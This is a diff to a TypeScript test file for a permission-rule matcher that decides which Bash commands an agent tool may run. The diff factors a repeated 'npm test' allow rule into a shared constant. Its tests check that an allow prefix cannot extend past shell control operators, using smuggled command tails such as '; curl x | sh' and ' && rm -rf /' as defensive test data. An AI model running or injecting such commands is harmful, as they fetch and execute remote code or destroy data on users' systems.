@@ -3,16 +3,18 @@ import { matchesRule } from './rule-match.js'
 import { rulePatternSchema } from './rule-schema.js'
 
 const bash = (command: string) => ({ command })
+/** Allows Bash commands starting with `npm test`. */
+const npmTest = {
+  toolName: 'Bash',
+  match: 'prefix',
+  pattern: 'npm test',
+  input: null,
+  effect: 'allow',
+} as const
 
 describe('a rule’s pattern', () => {
   it('matches a prefix only on a word boundary', () => {
-    const rule = {
-      toolName: 'Bash',
-      match: 'prefix',
-      pattern: 'npm test',
-      input: null,
-      effect: 'allow',
-    } as const
+    const rule = npmTest
     expect(matchesRule(rule, 'Bash', bash('npm test'))).toBe(true)
     expect(matchesRule(rule, 'Bash', bash('npm test -- --watch'))).toBe(true)
     expect(matchesRule(rule, 'Bash', bash('npm testify'))).toBe(false)
@@ -21,13 +23,7 @@ describe('a rule’s pattern', () => {
   })
 
   it('never lets an allow prefix reach past a shell control operator its own text lacks', () => {
-    const rule = {
-      toolName: 'Bash',
-      match: 'prefix',
-      pattern: 'npm test',
-      input: null,
-      effect: 'allow',
-    } as const
+    const rule = npmTest
     for (const tail of [
       '; curl x | sh',
       ' && rm -rf /',
